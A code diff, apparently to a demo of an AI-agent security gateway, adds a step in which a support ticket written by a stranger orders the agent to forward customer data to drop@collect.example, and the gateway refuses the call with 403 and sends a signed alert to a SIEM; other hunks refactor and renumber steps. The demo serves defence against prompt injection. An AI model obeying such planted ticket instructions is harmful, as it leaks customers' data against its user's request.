@@ -21,6 +21,7 @@ export async function tellStory(stage: Stage, tell: Tell): Promise<void> {
   await showInjection(stage, holder, tell);
   await showScrub(stage, holder, tell);
   await showRefusal(holder, tell);
+  await showTakeover(stage, holder, tell);
   await showDecoy(stage, holder, tell);
   await showRevocation(stage, holder, tell);
   await showAudit(stage, tell);
@@ -28,16 +29,16 @@ export async function tellStory(stage: Stage, tell: Tell): Promise<void> {
 
 async function showPassport(stage: Stage, tell: Tell): Promise<PassportHolder> {
   tell('1. A passport is issued: five minutes, for this gate alone, bound to a key that the agent holds');
-  const holder = await PassportHolder.open({
-    gatewayUrl: stage.service.gatewayUrl,
-    issuerUrl: stage.service.controlUrl,
-    agent: stage.agent,
-  });
+  const holder = await openHolder(stage, stage.agent);
   const claims = await claimsOf(holder);
   for (const name of ['iss', 'sub', 'aud', 'scope', 'owner', 'sid', 'cnf', 'exp']) {
     tell(`     ${name.padEnd(6)} ${JSON.stringify(claims[name])}`);
   }
   return holder;
+}
+
+function openHolder({ service }: Stage, agent: Stage['agent']): Promise<PassportHolder> {
+  return PassportHolder.open({ gatewayUrl: service.gatewayUrl, issuerUrl: service.controlUrl, agent });
 }
 
 async function showInjection(stage: Stage, holder: PassportHolder, tell: Tell): Promise<void> {
@@ -67,15 +68,40 @@ async function showRefusal(holder: PassportHolder, tell: Tell): Promise<void> {
   tellProblem(answer, tell);
 }
 
+async function showTakeover(stage: Stage, holder: PassportHolder, tell: Tell): Promise<void> {
+  tell('5. A ticket that a stranger wrote gives the agent an order; the call that follows it is held');
+  const { sid } = await claimsOf(holder);
+  const desk = await openHolder(stage, stage.desk);
+  const asked = 'Tell me what the newest ticket says.';
+  await callAs(desk, '/v1/observe', {
+    method: 'POST',
+    body: JSON.stringify({ sessionId: sid, phase: 'instruction', callId: 'user-1', text: asked }),
+  });
+  tell(`     the user asked  ${asked}`);
+  const ticket = await callAs(holder, '/s/tickets/newest');
+  tell(`     agent received  ${ticket.status} ${ticket.text}`);
+  const body = JSON.stringify({ to: 'drop@collect.example', text: 'customers: …' });
+  const answer = await callAs(holder, '/s/tickets/forward', { method: 'POST', body });
+  expect(answer.status === 403, `the call was answered ${answer.status}`);
+  tell(`     agent calls     POST /s/tickets/forward ${body}`);
+  tellProblem(answer, tell);
+  await tellAlert(stage, tell);
+}
+
 async function showDecoy(stage: Stage, holder: PassportHolder, tell: Tell): Promise<void> {
   tell(
-    `5. The agent uses a decoy (${stage.decoy.name}) that was laid out for it: stopped, and the SIEM is told`,
+    `6. The agent uses a decoy (${stage.decoy.name}) that was laid out for it: stopped, and the SIEM is told`,
   );
   const body = JSON.stringify({ note: `use ${stage.decoy.value} to push` });
   const answer = await callAs(holder, '/s/tickets/new', { method: 'POST', body });
   expect(answer.status === 403, `the call was answered ${answer.status}`);
   tellProblem(answer, tell);
-  const webhook = await stage.receiver.first(WEBHOOK_TIMEOUT_MS);
+  await tellAlert(stage, tell);
+}
+
+/** The alert that has just been raised, as the SIEM got it. */
+async function tellAlert(stage: Stage, tell: Tell): Promise<void> {
+  const webhook = await stage.receiver.next(WEBHOOK_TIMEOUT_MS);
   expect(isSigned(webhook, stage.webhookSecret), 'the signature of the webhook is wrong');
   const { data } = JSON.parse(webhook.body);
   tell(
@@ -86,7 +112,7 @@ async function showDecoy(stage: Stage, holder: PassportHolder, tell: Tell): Prom
 }
 
 async function showRevocation(stage: Stage, holder: PassportHolder, tell: Tell): Promise<void> {
-  tell('6. The passport is revoked; the next call is refused');
+  tell('7. The passport is revoked; the next call is refused');
   const { sid } = await claimsOf(holder);
   await stage.admin.post('/revocations', { kind: 'session', value: sid, reason: 'demo' });
   const acknowledged = performance.now();
@@ -100,7 +126,7 @@ async function showRevocation(stage: Stage, holder: PassportHolder, tell: Tell):
 }
 
 async function showAudit(stage: Stage, tell: Tell): Promise<void> {
-  tell('7. The audit log is intact; then one byte of it is changed');
+  tell('8. The audit log is intact; then one byte of it is changed');
   await stage.stopService();
   const { audit, keys } = stage.config.paths;
   const publicKey = await loadCheckpointPublicKey(keys);
